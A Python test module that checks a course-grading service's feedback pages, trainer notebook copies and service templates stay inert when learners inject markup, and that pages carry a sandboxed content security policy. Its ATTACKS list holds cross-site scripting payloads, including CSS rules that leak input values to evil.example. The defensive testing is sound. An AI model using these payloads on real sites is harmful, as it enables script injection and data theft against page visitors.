"""Rows "Display" of the attacks: nothing that a learner can put anywhere acts on a page that a person opens.

Scripts, handlers, `javascript:` links, drawings, frames and styles that tell, in outputs, Markdown,
attachments, names of files, cells and people, comments, what checks print: on a feedback page, in a notebook
that a trainer opens in formgrader, and on the pages of the course service.
"""

from __future__ import annotations

from datetime import UTC, datetime
from types import SimpleNamespace
from uuid import uuid4

import pytest

from course.api import CellFeedback, FeedbackDocument
from graders.feedback_page import feedback_page
from graders.reports.rendering import Renderer
from graders.reports.wording import Wording
from graders.trainer_copy import disarm
from hub_config.service.exchange import FeedbackPageHandler
from hub_config.service.pages import HERE as SERVICE
from tests.unit.test_feedback_page import acting
from tests.unit.test_trainer_copy import MARKUP, formgraded, with_everywhere

pytestmark = pytest.mark.quick

ATTACKS = [
    *MARKUP,
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<table background=https://evil.example><td background=https://evil.example>x",
    "<img srcset='https://evil.example 1x' src=data:image/png;base64,aGk=>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='vbscript:x'>x</a><a href='//evil.example'>x</a><a href='https:javascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<div><template><script>alert(1)</script></template></div>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "\"><img src=x onerror=alert(1)>",
    "'><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
]  # fmt: skip


def page(markup: str) -> str:
    """Return a feedback page with `markup` wherever a learner, or who comments, can put it."""
    mark = CellFeedback(
        notebook=markup, cell=markup, kind="tests", points=1, max_points=3, message=markup, comment=markup
    )
    document = FeedbackDocument(
        submission=uuid4(),
        assignment="tables",
        graded_at=datetime(2026, 3, 2, tzinfo=UTC),
        points=1,
        max_points=3,
        complete=True,
        cells=(mark,),
        notebooks=(markup,),
    )
    return feedback_page(with_everywhere(markup), markup, document, "en")


@pytest.mark.parametrize("markup", ATTACKS)
def test_nothing_acts_on_a_feedback_page(markup: str) -> None:
    head, body = page(markup).split("<body>")
    assert acting(body) == []
    assert head.count("<title>") == 1
    assert acting(head.split("<title>")[1].split("<style>")[0]) == []


@pytest.mark.parametrize("markup", ATTACKS)
def test_nothing_acts_in_a_trainers_copy(markup: str) -> None:
    notebook = with_everywhere(markup)
    disarm(notebook)
    assert acting(formgraded(notebook)) == []


OWN_PAGES = ("/hub/spawn", "/services/course/submissions", "/services/course/api/submissions/")


@pytest.mark.parametrize("markup", ATTACKS)
def test_no_name_of_a_person_or_file_acts_on_a_page_of_the_course_service(markup: str) -> None:
    wording = Wording("en", "UTC", datetime(2026, 3, 2, tzinfo=UTC))
    values = {"language": "en", "hub": "/hub/", "pages": "/services/course/"}
    member = SimpleNamespace(display_name=markup, name="ada")
    submission = SimpleNamespace(
        id=uuid4(), assignment=markup, received_at=wording.now, state="failed", problem=markup, points=None,
        sha256="0" * 64,
    )  # fmt: skip
    history = {"titles": {markup: markup}, "states": {"failed": "failed"}, "problem": str}
    for template, said in (
        ("learner", {"member": member}),
        ("refusal", {"problem": markup, "next_step": markup}),
        ("submitters", {"learners": [member]}),
        ("submissions", {"own": False, "person": markup, "submissions": [submission], **history}),
    ):
        html = Renderer(wording, [SERVICE / "templates"]).render(template, **values, **said)
        main = html.partition("<h1>")[2].partition("</main>")[0]
        assert "</p>" in main or "</section>" in main
        assert [each for each in acting(main) if not each.startswith(OWN_PAGES)] == []


def test_a_feedback_page_is_served_so_that_nothing_on_it_could_act() -> None:
    policy = FeedbackPageHandler.content_security_policy
    directives = [directive.strip() for directive in policy.split(";")]
    assert directives[0] == "sandbox", "without scripts, forms or the origin of the hub"
    assert "default-src 'none'" in directives
    assert "script-src" not in policy


def test_a_page_says_the_same_where_it_is_opened_as_a_file() -> None:
    head = page("x").split("<title>")[0]
    assert "Content-Security-Policy" in head
    assert "default-src 'none'" in head
